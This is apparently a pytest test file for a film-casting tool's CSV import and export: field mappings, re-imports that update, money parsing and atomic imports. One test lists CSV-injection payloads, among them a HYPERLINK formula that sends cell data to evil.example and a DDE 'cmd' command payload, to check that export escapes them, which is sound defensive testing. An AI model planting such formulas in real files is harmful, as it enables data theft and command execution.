"""CSV import and export: mappings, re-imports that update, bad rows that write nothing."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from castroom.core import model
from castroom.core.document import CastDocument
from castroom.core.importing import ImportFailed, apply_import
from castroom.core.labels import short_id
from castroom.core.model import Role, Scene, ShootDay, Talent
from castroom.core.registry import ImportResult
from castroom.core.view import ProductionView
from castroom.plugins.csv_io import escape_cell, read_csv, write_csv
from castroom.plugins.io_commands import parse_options

OFFICE_CSV = """Name,Age Min,Age Max,Fee,Ref,Shoe,Languages,Agent
Ada Stone,30,40,1500.00,sp-1,42,English; French,Blue Agency
Bo Li,20,25,$900,sp-2,,"[""Mandarin"", ""English""]",
"Cy, Jr.",8,12,,sp-3,31,,"Kids ""R"" Us"
"""
OFFICE_MAP = (
    "--map",
    "Age Min=playing_age_min",
    "--map",
    "Age Max=playing_age_max",
    "--map",
    "Fee=rate",
    "--map",
    "Ref=external_id",
    "--map",
    "Shoe=attributes.shoe",
)


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def doc() -> CastDocument:
    return CastDocument.create("Harbour Lights")


def test_mapped_columns_and_every_kind_of_cell(tmp_path: Path, doc: CastDocument) -> None:
    path = write(tmp_path, "office.csv", OFFICE_CSV)
    options = parse_options(["--kind", "talent", *OFFICE_MAP, "--source", "spotlight"])
    result = read_csv(str(path), ProductionView(doc), options)
    assert result.errors == []
    counts = apply_import(doc, result)
    assert (counts.created, counts.updated) == (3, 0)
    ada, bo, cy = sorted(doc.all(Talent), key=lambda t: t.name)
    assert (ada.playing_age_min, ada.playing_age_max, ada.rate) == (30, 40, 150_000)
    assert ada.languages == ["English", "French"] and ada.agent == "Blue Agency"
    assert ada.attributes == {"shoe": "42"} and ada.external_ids == {"spotlight": "sp-1"}
    assert bo.rate == 90_000 and bo.languages == ["Mandarin", "English"]
    assert cy.name == "Cy, Jr." and cy.agent == 'Kids "R" Us' and cy.rate is None


def test_reimport_updates_instead_of_duplicating(tmp_path: Path, cli) -> None:
    assert cli("init", "--production", "Harbour Lights").exit_code == 0
    path = write(tmp_path, "office.csv", OFFICE_CSV)
    first = cli("import", "csv", str(path), "--kind", "talent", *OFFICE_MAP)
    assert first.exit_code == 0, first.output
    assert "3 created, 0 updated" in first.stdout
    again = cli("import", "csv", str(path), "--kind", "talent", *OFFICE_MAP)
    assert "0 created, 0 updated, 3 unchanged" in again.stdout
    # The office changes a fee and renames a talent: same source id, so an update.
    changed = write(
        tmp_path,
        "office2.csv",
        OFFICE_CSV.replace("1500.00", "1750.00").replace("Bo Li", "Bo Li-Chen"),
    )
    third = cli("import", "csv", str(changed), "--kind", "talent", *OFFICE_MAP)
    assert "0 created, 2 updated, 1 unchanged" in third.stdout
    listed = json.loads(cli("list", "talents", "--json").stdout)
    assert sorted(t["name"] for t in listed) == ["Ada Stone", "Bo Li-Chen", "Cy, Jr."]
    assert next(t for t in listed if t["name"] == "Ada Stone")["rate"] == 175_000


def test_money_cells_are_major_units_as_people_write_them(tmp_path: Path) -> None:
    """A cell ``1500`` is $1,500.00, like ``1500.00`` (it was $15.00: minor units when there
    was no point); an ambiguous or foreign amount is refused by line, saying how to write it."""
    doc = CastDocument.create("Harbour Lights")
    cells = ["1500", "1500.00", '"1,500"', '"$1,500.00"', "1500 USD", '"1.500,00"']
    text = "name,rate\n" + "".join(f"T{i},{cell}\n" for i, cell in enumerate(cells))
    result = read_csv(str(write(tmp_path, "t.csv", text)), ProductionView(doc), {"kind": "talent"})
    assert result.errors == [] and {t.rate for t in result.entities} == {150_000}
    bad = "name,rate\nA,1.500\nB,1500 EUR\n"
    result = read_csv(str(write(tmp_path, "b.csv", bad)), ProductionView(doc), {"kind": "talent"})
    assert result.errors == [
        "line 2: talent.rate: '1.500' is ambiguous: $1,500.00 or $1.50? Write 1500.00 or 1.50",
        "line 3: talent.rate: '1500 EUR' is in EUR, but this production's money is in USD"
        " (castroom does not convert): write the amount in USD, like 1500.00",
    ]
    yen = CastDocument.create("Kaiju", currency="JPY")
    result = read_csv(
        str(write(tmp_path, "y.csv", "name,rate\nA,¥150000\nB,10.5\n")),
        ProductionView(yen),
        {"kind": "talent"},
    )
    assert [t.rate for t in result.entities] == [150_000]
    assert result.errors == [
        "line 3: talent.rate: '10.5' has too many decimals (JPY has no minor unit): write 10 or 11"
    ]


def test_natural_key_matches_by_name_when_there_is_no_id(tmp_path: Path, doc) -> None:
    existing = doc.add(Talent, name="Ada Stone", notes="keeps her notes")
    path = write(tmp_path, "t.csv", "name,union\nada stone,SAG-AFTRA\nNew Person,\n")
    counts = apply_import(doc, read_csv(str(path), ProductionView(doc), {"kind": "talent"}))
    assert (counts.created, counts.updated) == (1, 1)
    ada = doc.get(Talent, existing.id)
    assert ada.union == "SAG-AFTRA" and ada.notes == "keeps her notes" and ada.name == "Ada Stone"


def test_bad_rows_are_reported_by_line_and_nothing_is_written(tmp_path: Path, cli) -> None:
    cli("init", "--production", "Harbour Lights")
    bad = write(
        tmp_path,
        "bad.csv",
        "name,playing_age_min,playing_age_max,height_cm\n"
        "Fine One,20,30,170\n"
        "Backwards,40,30,\n"
        '"Multi\nLine",abc,,\n'
        ",20,30,\n"
        "Too Tall,,,900\n",
    )
    result = cli("import", "csv", str(bad), "--kind", "talent")
    assert result.exit_code == 1
    err = result.stderr
    assert "line 3: talent.playing_age_max" in err
    # A quoted cell spans lines 4-5: a name on two lines is refused (so is its age).
    assert "line 4: talent.name: expected one line of text (no line breaks)" in err
    assert "line 6: talent.name" in err
    assert "line 7: talent.height_cm" in err
    assert "nothing imported: 4 bad rows" in err
    assert "Fine One" not in cli("list", "talents").stdout
    assert json.loads(cli("list", "talents", "--json").stdout) == []


def test_a_bad_choice_is_named_once(tmp_path: Path, cli) -> None:
    cli("init", "--production", "Harbour Lights")
    cli("add", "talent", "name=Ada Stone")
    cli("add", "role", "name=Nora")
    bad = write(tmp_path, "c.csv", "talent_id,role_id,stage\nAda Stone,Nora,weird\n")
    result = cli("import", "csv", str(bad), "--kind", "candidate")
    assert result.exit_code == 1
    assert "candidate.stage: 'weird' is not one of: submitted," in result.stderr
    assert result.stderr.count("'weird'") == 2  # the row's line and the summary, once each


def test_unknown_columns_warn_and_bad_mappings_fail(tmp_path: Path, doc) -> None:
    path = write(tmp_path, "t.csv", "name,favourite colour\nAda,blue\n")
    result = read_csv(str(path), ProductionView(doc), {"kind": "talent"})
    assert any("favourite colour" in w for w in result.warnings)
    with pytest.raises(model.ValidationFailed):
        read_csv(str(path), ProductionView(doc), {"kind": "talent", "map": "name=nope"})
    with pytest.raises(Exception, match="does not have"):
        read_csv(str(path), ProductionView(doc), {"kind": "talent", "map": "missing=name"})


def test_other_kinds_and_kind_from_file_name(tmp_path: Path, doc) -> None:
    roles = write(
        tmp_path, "roles.csv", "name,kind,age_min,age_max,rate_cap\nMary,lead,30,40,2000.50\n"
    )
    days = write(tmp_path, "shoot_days.csv", "date,location,call_time\n2026-03-02,Harbour,06:30\n")
    apply_import(doc, read_csv(str(roles), ProductionView(doc), {}))
    apply_import(doc, read_csv(str(days), ProductionView(doc), {}))
    (mary,) = doc.all(Role)
    assert mary.kind == "lead" and mary.rate_cap == 200_050
    (day,) = doc.all(ShootDay)
    assert day.location == "Harbour" and day.call_time == "06:30"
    # Re-importing the shoot day (keyed by date) updates it.
    write(tmp_path, "shoot_days.csv", "date,location\n2026-03-02,Quay\n")
    counts = apply_import(doc, read_csv(str(days), ProductionView(doc), {}))
    assert counts.updated == 1 and doc.all(ShootDay)[0].location == "Quay"


def test_export_round_trips_through_import(tmp_path: Path, doc) -> None:
    doc.add(
        Talent,
        name='Ada, "the" Stone',
        languages=["en", "fr"],
        attributes={"a": "b"},
        rate=1234,
        notes="line one\nline two",
    )
    doc.add(Scene, number="12A", heading="INT. KITCHEN - NIGHT", story_day=2)
    text = write_csv(ProductionView(doc), {"kind": "talent"})
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["name"] == 'Ada, "the" Stone'
    assert rows[0]["rate"] == "12.34"  # money as people (and the importer) read it
    assert json.loads(rows[0]["languages"]) == ["en", "fr"]
    path = write(tmp_path, "export.csv", text)
    counts = apply_import(doc, read_csv(str(path), ProductionView(doc), {"kind": "talent"}))
    assert (counts.created, counts.updated, counts.unchanged) == (0, 0, 1)
    scenes = write_csv(ProductionView(doc), {"kind": "scenes", "fields": "number,story_day"})
    assert scenes.splitlines() == ["id,number,story_day", f"{doc.all(Scene)[0].id},12A,2"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''@twice",
]


def test_export_escapes_formulas_and_a_reimport_gets_the_values_back(tmp_path: Path, doc) -> None:
    """OWASP CSV injection: a cell a spreadsheet would run starts with a quote; plain
    numbers (a negative one too) and other text stay as they are."""
    for name in FORMULAS:
        doc.add(Talent, name=f"Ada {len(name)}", agent=name, notes=name)
    doc.add(Talent, name="Plain", agent="-12.5", notes="a - b = c")
    text = write_csv(ProductionView(doc), {"kind": "talent", "fields": "name,agent,notes"})
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(text))}
    for name in FORMULAS:
        cell = rows[f"Ada {len(name)}"]["agent"]
        assert cell == "'" + name and cell[0] not in "=+-@\t\r"
    assert (rows["Plain"]["agent"], rows["Plain"]["notes"]) == ("-12.5", "a - b = c")
    assert escape_cell("\t=1+1") == "'\t=1+1" and escape_cell("\r@x") == "'\r@x"
    before = {t.id: (t.agent, t.notes) for t in doc.all(Talent)}
    path = write(tmp_path, "export.csv", text)
    for t in doc.all(Talent):  # the re-import must write each original value back
        doc.update(Talent, t.id, {"agent": "changed", "notes": "changed"})
    counts = apply_import(doc, read_csv(str(path), ProductionView(doc), {"kind": "talent"}))
    assert counts.updated == len(before)
    assert {t.id: (t.agent, t.notes) for t in doc.all(Talent)} == before


def test_every_exported_column_imports_back_without_warnings(tmp_path: Path, doc) -> None:
    role = doc.add(Role, name="Nora")
    for day in (1, 2):
        doc.add(model.Audition, role_id=role.id, starts_at=f"2027-01-0{day}T10:00:00")
    gone = doc.all(model.Audition)[1]
    doc.delete(model.Audition, gone.id)
    for everything in (False, True):  # --all: the deleted one too (deleted=true)
        text = write_csv(ProductionView(doc), {"kind": "audition", "all": everything})
        assert text.startswith("id,deleted,")
        path = write(tmp_path, "auditions.csv", text)
        result = read_csv(str(path), ProductionView(doc), {"kind": "audition"})
        assert result.warnings == [] and result.errors == []
        counts = apply_import(doc, result)
        assert (counts.created, counts.updated) == (0, 0)
    # A deleted cell that disagrees is not applied, and says so (in words: "an audition").
    path = write(tmp_path, "auditions.csv", text.replace(",false,", ",true,", 1))
    warned = read_csv(str(path), ProductionView(doc), {"kind": "audition"}).warnings
    assert len(warned) == 1 and "1 row(s)" in warned[0] and "castroom delete" in warned[0]
    assert doc.stored_fields(model.Audition, gone.id)["deleted"] is True
    path = write(tmp_path, "auditions.csv", "colour,role_id,starts_at\nred,Nora,2027-01-03T10:00\n")
    warned = read_csv(str(path), ProductionView(doc), {"kind": "audition"}).warnings
    assert warned == ["column 'colour' is not an audition field: ignored"]


def test_apply_import_is_all_or_nothing(doc: CastDocument) -> None:
    good = Talent(id=model.new_id(), name="Good")
    bad = Talent(id=model.new_id(), name="Bad", playing_age_min=200)  # past the Meta limit
    before = doc.encode_update()
    with pytest.raises(ImportFailed) as failed:
        apply_import(doc, ImportResult(entities=[good, bad]))
    assert "entity 2" in failed.value.errors[0]
    assert doc.all(Talent) == [] and doc.encode_update() == before
    with pytest.raises(ImportFailed):
        apply_import(doc, ImportResult(entities=[good], errors=["line 9: broken"]))
    assert doc.all(Talent) == []


def test_one_import_is_one_transaction(doc: CastDocument) -> None:
    commits: list[bytes] = []
    doc.on_commit = lambda update, changes: commits.append(update)
    entities = [Talent(id=model.new_id(), name=f"T{i}") for i in range(50)]
    counts = apply_import(doc, ImportResult(entities=entities))
    assert counts.created == 50 and len(commits) == 1


def test_parse_options_repeats_flags_and_equals() -> None:
    args = ["--kind", "talent", "--map", "a=b", "--map=c=d", "--all", "--per-page", "5"]
    opts = parse_options(args)
    assert opts == {"kind": "talent", "map": ["a=b", "c=d"], "all": True, "per_page": "5"}
    with pytest.raises(Exception, match="unexpected argument"):
        parse_options(["stray"])


def test_references_by_name_number_or_date(tmp_path: Path, doc: CastDocument) -> None:
    ada = doc.add(Talent, name="Ada Stone")
    mary = doc.add(Role, name="Mary")
    tommy = doc.add(Role, name="Tommy")
    doc.add(Talent, name="Twin")
    doc.add(Talent, name="twin")
    day = doc.add(ShootDay, date="2026-03-02")
    text = f"talent_id,role_id,stage\nada stone,MARY,shortlisted\n{ada.id},{tommy.id},offer\n"
    cands = write(tmp_path, "candidates.csv", text)
    apply_import(doc, read_csv(str(cands), ProductionView(doc), {}))
    got = sorted((c.talent_id, c.role_id, c.stage) for c in doc.all(model.Candidate))
    assert got == sorted([(ada.id, mary.id, "shortlisted"), (ada.id, tommy.id, "offer")])
    scenes = write(
        tmp_path, "scenes.csv", 'number,characters,shoot_day_id\n1,"Mary; Tommy",2026-03-02\n'
    )
    apply_import(doc, read_csv(str(scenes), ProductionView(doc), {}))
    (scene,) = doc.all(Scene)
    assert scene.characters == [mary.id, tommy.id] and scene.shoot_day_id == day.id
    bad = write(tmp_path, "candidates.csv", "talent_id,role_id\nNobody,Mary\nTwin,Mary\n")
    result = read_csv(str(bad), ProductionView(doc), {})
    # The same words the CLI uses for the same reference (castroom.core.resolve).
    first, second = result.errors
    assert first == "line 2: candidate.talent_id: no talent matching 'Nobody'"
    assert second.startswith("line 3: candidate.talent_id: 'Twin' matches 2 talents: ")
    assert second.endswith("; use the id")


def test_import_json_output_and_unknown_importer(tmp_path: Path, cli) -> None:
    cli("init", "--production", "Harbour Lights")
    path = write(tmp_path, "t.csv", "name,colour\nAda Stone,blue\n")
    done = cli("import", "csv", str(path), "--kind", "talent", "--json")
    assert done.exit_code == 0
    assert json.loads(done.stdout) == {
        "created": 1,
        "updated": 0,
        "unchanged": 0,
        "warnings": ["column 'colour' is not a talent field: ignored"],
        "report": [],
    }
    missing = cli("import", "xls", str(path))
    assert missing.exit_code == 1
    assert "no importer 'xls' (installed: csv, script, site, xlsx" in missing.stderr


def test_an_id_column_from_elsewhere_is_kept_as_a_source_id(tmp_path: Path, doc) -> None:
    path = write(tmp_path, "t.csv", "ID,Name\nsp-1,Ada Stone\nsp-2,Bo Li\n")
    first = read_csv(str(path), ProductionView(doc), {"kind": "talent"})
    assert any("ids from elsewhere" in w for w in first.warnings)
    apply_import(doc, first)
    assert sorted(t.external_ids["csv"] for t in doc.all(Talent)) == ["sp-1", "sp-2"]
    again = apply_import(doc, read_csv(str(path), ProductionView(doc), {"kind": "talent"}))
    assert (again.created, again.unchanged) == (0, 2)
    deals = write(tmp_path, "d.csv", "id,rate\nD-1,100\n")  # a deal keeps no source ids
    result = read_csv(str(deals), ProductionView(doc), {"kind": "deal"})
    assert result.errors == [
        "line 2: deal.id: 'D-1' is not a castroom id (map that column to another field with --map)"
    ]


def test_roles_and_scenes_keep_foreign_ids_and_reimport_without_duplicates(
    tmp_path: Path, doc: CastDocument
) -> None:
    sheet = "ID,Name,Kind\nR-1,Mary,lead\nR-2,Tommy,supporting\n"
    path = write(tmp_path, "roles.csv", sheet)
    options = {"source": "office"}
    first = read_csv(str(path), ProductionView(doc), options)
    assert first.errors == [] and any("ids from elsewhere" in w for w in first.warnings)
    assert apply_import(doc, first).created == 2
    ids = {r.external_ids["office"]: r.id for r in doc.all(Role)}
    assert set(ids) == {"R-1", "R-2"}
    again = apply_import(doc, read_csv(str(path), ProductionView(doc), options))
    assert (again.created, again.updated, again.unchanged) == (0, 0, 2)
    # The office renames a character: the same id there, so the same role here.
    write(tmp_path, "roles.csv", sheet.replace("Mary,lead", "Mary Marsh,lead"))
    third = apply_import(doc, read_csv(str(path), ProductionView(doc), options))
    assert (third.created, third.updated) == (0, 1)
    assert doc.get(Role, ids["R-1"]).name == "Mary Marsh" and len(doc.all(Role)) == 2
    # Scenes too, through a mapped column: a renumbered scene is still found by its id.
    scenes = write(tmp_path, "scenes.csv", "Ref,number,heading\nS-9,4,INT. KITCHEN\n")
    mapped = {"kind": "scene", "source": "office", "map": ["Ref=external_id"]}
    apply_import(doc, read_csv(str(scenes), ProductionView(doc), mapped))
    write(tmp_path, "scenes.csv", "Ref,number,heading\nS-9,5,INT. KITCHEN\n")
    counts = apply_import(doc, read_csv(str(scenes), ProductionView(doc), mapped))
    assert (counts.created, counts.updated) == (0, 1)
    (scene,) = doc.all(Scene)
    assert scene.number == "5" and scene.external_ids == {"office": "S-9"}


SUBMISSIONS = """talent,role,era,stage
Ivy Chen-Walsh,Nora Quill,adult,submitted
Jon Ruiz,Tom Quill,,shortlisted
Kit Moreau,nora quill,young,audition
"""
SUBMISSIONS_MAP = ("--kind", "candidate", "--map", "talent=talent_id", "--map", "role=role_id")


def test_candidates_reimport_by_talent_role_and_era(tmp_path: Path, cli) -> None:
    cli("init", "--production", "Harbour Lights")
    eras = '[{"name": "adult"}, {"name": "young"}]'
    for args in (
        ("role", "name=Nora Quill", f"eras={eras}"),
        ("role", "name=Tom Quill"),
        ("talent", "name=Ivy Chen-Walsh"),
        ("talent", "name=Jon Ruiz"),
        ("talent", "name=Kit Moreau"),
    ):
        assert cli("add", *args).exit_code == 0
    path = write(tmp_path, "subs.csv", SUBMISSIONS)
    first = cli("import", "csv", str(path), *SUBMISSIONS_MAP)
    assert "3 created, 0 updated, 0 unchanged" in first.stdout, first.output
    again = cli("import", "csv", str(path), *SUBMISSIONS_MAP)
    assert "0 created, 0 updated, 3 unchanged" in again.stdout, again.output
    # The office moves Jon on and sends Ivy twice (the later row wins): still three.
    write(
        tmp_path,
        "subs.csv",
        SUBMISSIONS.replace("shortlisted", "callback") + "IVY CHEN-WALSH,Nora Quill,adult,offer\n",
    )
    third = cli("import", "csv", str(path), *SUBMISSIONS_MAP)
    assert "0 created, 2 updated, 1 unchanged" in third.stdout, third.output
    listed = json.loads(cli("list", "candidates", "--json").stdout)
    talents = {t["id"]: t["name"] for t in json.loads(cli("list", "talents", "--json").stdout)}
    got = sorted((talents[c["talent_id"]], c["era"], c["stage"]) for c in listed)
    assert got == [
        ("Ivy Chen-Walsh", "adult", "offer"),
        ("Jon Ruiz", None, "callback"),
        ("Kit Moreau", "young", "audition"),
    ]


def test_references_skip_deleted_entities_and_bad_rows_write_nothing(
    tmp_path: Path, doc: CastDocument
) -> None:
    mary = doc.add(Role, name="Mary")
    ada = doc.add(Talent, name="Ada Stone")
    gone = doc.add(Talent, name="Ada Stone")
    doc.delete(Talent, gone.id)  # a deleted namesake neither matches nor makes a name ambiguous
    kept = doc.add(model.Candidate, talent_id=ada.id, role_id=mary.id, stage="audition")
    dropped = doc.add(model.Candidate, talent_id=ada.id, role_id=mary.id, stage="dropped")
    doc.delete(model.Candidate, dropped.id)
    path = write(tmp_path, "c.csv", "talent_id,role_id,stage\nAda Stone,Mary,callback\n")
    counts = apply_import(doc, read_csv(str(path), ProductionView(doc), {"kind": "candidate"}))
    assert (counts.created, counts.updated) == (0, 1)  # the live candidate, not the deleted one
    assert doc.get(model.Candidate, kept.id).stage == "callback"
    bad = write(
        tmp_path,
        "c.csv",
        f"talent_id,role_id,stage\nAda Stone,Mary,offer\nNobody,Mary,offer\n{gone.id},Mary,offer\n",
    )
    result = read_csv(str(bad), ProductionView(doc), {"kind": "candidate"})
    # The CLI's words for the same references: unknown, and deleted (with how to restore).
    assert result.errors == [
        "line 3: candidate.talent_id: no talent matching 'Nobody'",
        f"line 4: candidate.talent_id: talent Ada Stone is deleted"
        f" (`castroom restore talent {short_id(gone.id, doc.ids(Talent))}` first)",
    ]
    with pytest.raises(ImportFailed):
        apply_import(doc, result)
    assert doc.get(model.Candidate, kept.id).stage == "callback"  # nothing half-imported


def test_an_audition_panel_takes_member_names(tmp_path: Path, doc: CastDocument) -> None:
    mary = doc.add(Role, name="Mary")
    lee = doc.add(model.Member, name="Lee Park")
    path = write(tmp_path, "a.csv", "role_id,starts_at,panel\nMary,2026-03-02T10:00:00,Lee Park\n")
    apply_import(doc, read_csv(str(path), ProductionView(doc), {"kind": "audition"}))
    (audition,) = doc.all(model.Audition)
    assert audition.role_id == mary.id and audition.panel == [lee.id]


def test_the_importer_description_names_its_options() -> None:
    from castroom.core.plugins import make_plugins

    description = make_plugins(entry_points=False).importers()["csv"].description
    assert all(o in description for o in ("--kind", "--map", "--source", "--delimiter"))


def test_the_same_person_twice_in_one_file_is_said(tmp_path: Path, doc) -> None:
    """Two rows that are one talent (by name, case and accents folded) update one talent,
    as before, and the import now says so instead of merging them silently; a row for
    an existing talent written without her accent finds her."""
    zoe = doc.add(Talent, name="Zoë Stone", agent="Blue")
    text = "name,union\nAda Stone,Equity\nada  STONE,SAG-AFTRA\nZoe Stone,Equity\n"
    result = read_csv(str(write(tmp_path, "t.csv", text)), ProductionView(doc), {"kind": "talent"})
    assert result.errors == []
    assert result.warnings == [
        "line 3: the same talent as line 2 (Ada Stone): one talent, the later row's cells win"
    ]
    counts = apply_import(doc, result)
    assert (counts.created, counts.updated) == (1, 1)
    assert doc.get(Talent, zoe.id).union == "Equity" and doc.get(Talent, zoe.id).name == "Zoë Stone"
    (ada,) = [t for t in doc.all(Talent) if t.id != zoe.id]
    assert (ada.name, ada.union) == ("Ada Stone", "SAG-AFTRA")
